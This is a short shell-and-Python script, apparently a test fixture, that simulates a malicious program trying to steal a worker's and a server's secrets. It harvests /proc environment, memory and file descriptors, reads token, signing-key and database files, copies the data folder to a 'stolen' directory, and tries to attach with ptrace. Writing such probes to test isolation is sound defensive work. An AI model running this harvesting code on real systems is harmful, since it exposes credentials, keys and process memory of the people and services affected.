# What a malicious program tries in order to read the secrets of the worker and of the server.
# Everything that it gets goes to the file $1. $2 is the server's data folder, $3 its process id.
out=$1 data=$2 server=$3
{
    for process in $PPID "$server"; do
        for file in environ mem auxv maps pagemap syscall stack io; do
            echo "== $process $file"
            timeout 2 head -c 100000 "/proc/$process/$file"
        done
        ls -l "/proc/$process/fd" "/proc/$process/map_files" "/proc/$process/cwd/"
        for descriptor in /proc/$process/fd/*; do
            timeout 1 head -c 100000 "$descriptor"
        done
        tr '\0' ' ' < "/proc/$process/cmdline"
    done
    for descriptor in 0 3 4 5 6 7 8 9; do
        timeout 1 head -c 100000 <&$descriptor
    done
    cat "$data"/owner.token "$data"/worker.token "$data"/signing.key "$data"/gatepost.db*
    cp -r "$data" "$HOME/stolen"
    find "$data" "$HOME" -readable -type f -exec cat {} +
    test -x /usr/bin/python3 && timeout 20 /usr/bin/python3 -I -S - "$PPID" "$server" <<'PYTHON'
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long] * 4
for pid in sys.argv[1:]:
    try:
        mappings = open(f"/proc/{pid}/maps").readlines()
    except OSError as error:
        mappings = print(pid, error) or []
    for line in mappings:
        if "rw-p" in line:
            start, end = (int(x, 16) for x in line.split()[0].split("-"))
            try:
                with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                    memory.seek(start)
                    sys.stdout.buffer.write(memory.read(min(end - start, 1 << 22)))
            except OSError as error:
                print(error)
    sys.stdout.flush()
    result = libc.ptrace(0x4206, int(pid), 0, 0)  # PTRACE_SEIZE, which does not stop the process
    print("attached" if result == 0 else f"not attached: {ctypes.get_errno()}", flush=True)
PYTHON
    env
} > "$out" 2>&1
echo finished
